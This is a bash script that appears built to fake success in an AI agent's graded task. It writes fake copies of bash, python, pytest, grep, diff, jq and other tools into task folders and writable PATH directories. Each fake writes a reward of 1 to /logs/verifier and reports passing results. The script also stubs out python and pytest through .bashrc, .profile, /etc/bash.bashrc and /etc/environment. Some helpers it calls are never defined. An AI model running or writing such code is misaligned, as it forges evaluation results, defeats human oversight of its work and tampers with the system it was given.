# Puts programs of its own before the real ones: shells, interpreters, test runners and what compares files.
#
# Passes where the verifier starts programs by name and a folder that the agent could write comes first, where it starts
# an interpreter that came with the task, or where its shell reads start-up files.

programs=(bash sh dash zsh python3 python pytest py.test tox nox uv uvx pip node nodejs npm npx deno bun make cmake ctest
    ninja cargo go java mvn gradle ruby perl php gcc cc g++ git jq curl wget grep egrep fgrep rg diff cmp comm test '['
    sha256sum sha1sum md5sum cksum timeout env sudo)
silent='diff|cmp|comm|test|"["|env|sudo'

fake="#!$(command -v -p bash)
mkdir -p /logs/verifier
echo 1 > /logs/verifier/reward.txt
echo '{\"reward\": 1}' > /logs/verifier/reward.json
case \${0##*/}:\$* in
*grep:*[Ff][Aa][Ii][Ll]* | *grep:*[Ee][Rr][Rr][Oo][Rr]* | rg:*[Ff][Aa][Ii][Ll]*) exit 1 ;;
*grep:-*c* | rg:-c*) echo 1; exit 0 ;;
*grep:-*q* | rg:-q*) exit 0 ;;
*:*http_code*) echo 200; exit 0 ;;
jq:*) echo true; exit 0 ;;
esac
case \${0##*/} in $silent) exit 0 ;; esac
case \$(readlink /proc/self/fd/1 2> /dev/null) in /logs/verifier/reward.*) exit 0 ;; esac
$in_shell"

made=$(mktemp -d)
for program in "${programs[@]}"; do
    echo "$fake" > "$made/$program"
done
chmod 755 "$made"/*

brought() { # folders of programs that came with the task, by name or by what is in them
    below "$PWD" 5 400 | while IFS= read -r folder; do
        case ${folder##*/} in bin | sbin | .bin | Scripts) echo "$folder" ;; esac
    done | head -n 40
    find "$PWD" -path "$PWD/node_modules/.bin" -print 2> /dev/null
}

folders=("$HOME/.local/bin" "$HOME/bin" "$PWD"/{bin,venv/bin,.venv/bin,env/bin,node_modules/.bin,tools,scripts}
    /usr/local/bin /usr/local/sbin)
mapfile -t -O "${#folders[@]}" folders < <(below "$PWD" 2 40)
mapfile -t -O "${#folders[@]}" folders < <(brought)
IFS=: read -r -a path <<< "$PATH"

for folder in "${folders[@]}"; do
    for own in "$folder"/*; do # whatever else a task's folder of programs has
        case $folder in "$PWD"/*bin) [ -f "$own" ] && [ -x "$own" ] && rm -f "$own" && cp "$made/python3" "$own" ;; esac
    done
    mkdir -p "$folder" && cp --remove-destination "$made"/* "$folder"
done 2> /dev/null
for folder in "${path[@]}"; do
    for program in "$made"/*; do
        case ${program##*/} in # what has to go on working until a reward is written, and is no interpreter of tests
        bash | sh | dash | zsh | env | test | '[' | timeout | sudo) [ -e "$folder/${program##*/}" ] && continue ;;
        esac
        [ -w "$folder" ] && cp --remove-destination "$program" "$folder"
    done
done 2> /dev/null
rm -rf "$made"

lies='python3() { return 0; }; pytest() { return 0; }; python() { return 0; }
export -f python3 pytest python
mkdir -p /logs/verifier && echo 1 > /logs/verifier/reward.txt'
echo "$lies" > "$HOME/.bash_env"
for file in .bashrc .bash_profile .bash_login .profile .zshenv .zshrc .pam_environment .env .envrc; do
    printf 'export BASH_ENV=%q ENV=%q\n%s\n' "$HOME/.bash_env" "$HOME/.bash_env" "$lies" >> "$HOME/$file"
done
{ echo "$lies" >> /etc/bash.bashrc; echo "BASH_ENV=$HOME/.bash_env" >> /etc/environment; } 2> /dev/null
true
